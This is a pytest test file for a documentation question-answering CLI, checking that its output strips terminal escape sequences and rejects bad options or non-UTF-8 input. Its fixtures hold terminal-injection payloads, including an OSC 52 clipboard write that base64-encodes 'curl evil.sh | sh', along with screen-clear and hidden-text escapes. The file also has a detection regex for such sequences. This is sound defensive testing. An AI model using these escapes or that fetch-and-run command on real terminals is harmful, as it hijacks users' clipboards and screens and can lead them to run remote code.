"""The `kfqa` command line in fresh processes: terminal safety, option validation, questions that
aren't UTF-8. The renderer's own escaping is also checked in-process on a hand-built Answer."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from kfqa.config import KINDS
from kfqa.render import SafeConsole, render_answer
from kfqa.text import terminal_safe
from kfqa.types import Answer, Chunk, ChunkMeta, Citation, Retrieved

KFQA = str(Path(sys.executable).parent / "kfqa")

# What a hostile source can try: an OSC 52 clipboard write, hidden text (SGR 8), a screen clear and
# cursor home, an 8-bit CSI, a DCS string, a bell, a backspace and a carriage return.
HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07The katib-controller \x1b[8mhidden\x1b[28m is run by the "
    "Katib team\x1b[2J\x1b[H in the kubeflow namespace.\x9b31m Credentials rotate\x08 weekly\r."
    "\x1bP1$r0m\x1b\\"
)
# Anything a terminal would act on, other than rich's own colours (SGR with digits only, not 8).
TERMINAL_CONTROL = re.compile(r"\x1b[\]P^_X]|\x1b\[[0-9;]*[A-HJKSTfhlsu]|\x1b\[(?:[0-9;]*;)?8m|[\x07\x08\r\x90-\x9f]")


def run_kfqa(*args: str, store: Path | None = None, stdin: bytes | None = None, timeout: int = 300):
    env = {k: v for k, v in os.environ.items() if not k.startswith("KFQA_CHROMA")}
    env["COLUMNS"] = "200"  # messages on one line
    if store is not None:
        env["KFQA_STORE"] = str(store)
    return subprocess.run(
        [KFQA, *args], input=stdin, capture_output=True, env=env, timeout=timeout,
        stdin=None if stdin is not None else subprocess.DEVNULL,
    )


def test_terminal_safe_drops_sequences_whole_and_keeps_text():
    cleaned = terminal_safe(HOSTILE)
    assert cleaned == (
        "The katib-controller hidden is run by the Katib team in the kubeflow namespace. "
        "Credentials rotate weekly."
    )
    assert terminal_safe("plain, ünïcode ✓ 東京\n\tindented") == "plain, ünïcode ✓ 東京\n\tindented"
    # an unterminated string command ends at the line's end, not the text's
    assert terminal_safe("title \x1b]0;owned\nnext line") == "title \nnext line"


def hostile_answer() -> Answer:
    meta = ChunkMeta(
        source="docs/evil\x1b[2J.md", kind="docs", title="Katib\x1b]0;pwned\x07", section="Run\x1b[8m by",
        url="https://example.org/\x1b]52;c;eA==\x07x", line_start=1, line_end=3,
    )
    chunk = Chunk(id="evil#0", text=HOSTILE, meta=meta)
    return Answer(
        question="who?", answer=f"{HOSTILE} [1]", abstained=False, citations=[Citation(n=1, chunk=chunk, quote=HOSTILE)],
        retrieved=[Retrieved(chunk=chunk, score=1.0)], notices=["note \x1b[2J"],
    )


def test_rendered_answer_carries_no_terminal_control():
    out = io.StringIO()
    render_answer(hostile_answer(), SafeConsole(file=out, force_terminal=True, width=100))
    text = out.getvalue()
    assert "\x1b[" in text  # rich's own colours are still there: a terminal was assumed
    assert not TERMINAL_CONTROL.search(text), repr(TERMINAL_CONTROL.search(text))
    assert "Katib team" in text and "docs/evil.md" in text


def test_safe_console_cleans_tables_and_text_objects():
    from rich.table import Table
    from rich.text import Text

    table = Table("file")
    table.add_row("a\x1b]52;c;eA==\x07.md")
    out = io.StringIO()
    console = SafeConsole(file=out, force_terminal=True, width=80)
    console.print(table)
    console.print(Text("b\x1b[2J\x1b[8m.md"))
    assert not TERMINAL_CONTROL.search(out.getvalue())
    assert "a.md" in out.getvalue() and "b.md" in out.getvalue()


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    """A store ingested by `kfqa ingest` from one Markdown file whose name and text carry escapes."""
    corpus = tmp_path_factory.mktemp("hostile-corpus")
    (corpus / "docs").mkdir()
    (corpus / "docs" / "katib\x1b[2J\x1b]52;c;eA==\x07.md").write_text(
        f"# Katib \x1b]0;pwned\x07controllers\n\n{HOSTILE}\n\n## Operations\n\n{HOSTILE}\n", encoding="utf-8"
    )
    # a file that fails to load: its name is printed in the ingest summary's list of failures
    (corpus / "docs" / "bad\x1b]52;c;eA==\x07\x1b[8m.pdf").write_bytes(b"%PDF-1.7 not really a pdf")
    store = tmp_path_factory.mktemp("hostile-store")
    run = run_kfqa("ingest", str(corpus), "--store", str(store), timeout=600)
    assert run.returncode == 0, run.stderr.decode(errors="replace")
    return store, run


@pytest.mark.corpus
def test_ingest_output_carries_no_terminal_control(hostile_store):
    _, run = hostile_store
    for stream in (run.stdout, run.stderr):
        text = stream.decode("utf-8")
        assert not TERMINAL_CONTROL.search(text), repr(text[:400])
    printed = (run.stdout + run.stderr).decode("utf-8")
    assert "bad.pdf" in printed  # the file name was printed, cleaned


@pytest.mark.corpus
def test_ask_text_mode_carries_no_terminal_control(hostile_store):
    store, _ = hostile_store
    run = run_kfqa("ask", "Who runs the katib-controller?", store=store)
    assert run.returncode == 0, run.stderr.decode(errors="replace")
    text = run.stdout.decode("utf-8")
    assert "Katib team" in text
    assert not TERMINAL_CONTROL.search(text) and "\x1b" not in text, repr(text[:400])


@pytest.mark.corpus
def test_ask_json_escapes_every_control(hostile_store):
    store, _ = hostile_store
    run = run_kfqa("ask", "Who runs the katib-controller?", "--json", store=store)
    assert run.returncode == 0, run.stderr.decode(errors="replace")
    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]", run.stdout)  # raw C0, DEL, C1 (UTF-8)
    data = json.loads(run.stdout)
    assert data["citations"], data
    assert "Katib team" in data["answer"]


@pytest.mark.corpus  # a fresh `kfqa` process
@pytest.mark.parametrize("kind", ["bogus", "Audit"])
def test_unknown_kind_is_an_error_naming_the_valid_kinds(kind):
    run = run_kfqa("ask", "who runs katib?", "--kind", "audit", "--kind", kind)
    err = run.stderr.decode()
    assert run.returncode == 2
    assert repr(kind) in err and all(k in err for k in KINDS)
    assert "Traceback" not in err


@pytest.mark.corpus  # a fresh `kfqa` process
@pytest.mark.parametrize("k", ["-5", "0"])
def test_non_positive_k_is_rejected(k):
    for command in (["ask", "who runs katib?"], ["eval"]):
        run = run_kfqa(*command, "--k", k)
        assert run.returncode == 2, run.stderr
        assert "--k" in run.stderr.decode() and "Traceback" not in run.stderr.decode()


@pytest.mark.corpus  # a fresh `kfqa` process
def test_question_that_is_not_utf8_in_argv_gets_a_message():
    env = {k: v for k, v in os.environ.items() if not k.startswith("KFQA_")}
    run = subprocess.run([os.fsencode(KFQA), b"ask", b"caf\xe9 katib \xff"], capture_output=True, env=env, timeout=120)
    err = run.stderr.decode()
    assert run.returncode == 1
    assert "not valid UTF-8" in err and "Traceback" not in err


@pytest.mark.corpus  # a fresh `kfqa` process
def test_question_that_is_not_utf8_on_stdin_gets_a_message():
    run = run_kfqa("ask", "-", stdin=b"who runs \xff\xfe katib?")
    err = run.stderr.decode()
    assert run.returncode == 1
    assert "not valid UTF-8" in err and "byte 0xff at offset 9" in err and "Traceback" not in err


def test_log_records_lose_terminal_control():
    import logging

    from kfqa.cli import _TerminalSafe

    record = logging.LogRecord("kfqa", logging.WARNING, __file__, 1, "can't read %s", ("a\x1b]52;c;eA==\x07\x1b[2J.md",), None)
    assert _TerminalSafe().filter(record)
    assert record.getMessage() == "can't read a.md"


def test_an_unknown_project_is_an_error_naming_the_projects(small_store):
    run = run_kfqa("ask", "who runs katib?", "--project", "kubefloe", store=small_store.store_dir)
    err = run.stderr.decode()
    assert run.returncode == 1, err
    assert "No project 'kubefloe' in the store: did you mean kubeflow" in err
    assert "Traceback" not in err
    # the project's name in another case is the project
    run = run_kfqa("ask", "who runs katib?", "--project", "Kubeflow", "--json", store=small_store.store_dir)
    assert run.returncode == 0, run.stderr.decode()


def test_filters_no_passage_matches_say_so(small_store):
    from kfqa.qa import Assistant
    from kfqa.types import Filters

    answer = Assistant.open(small_store).ask("Who runs the Katib controllers?", filters=Filters(source_glob="nothing/*.md"))
    assert answer.abstained and answer.retrieved == []
    assert any("No indexed passage matches the filters" in n for n in answer.notices)
    assert not any("never mention" in n for n in answer.notices)
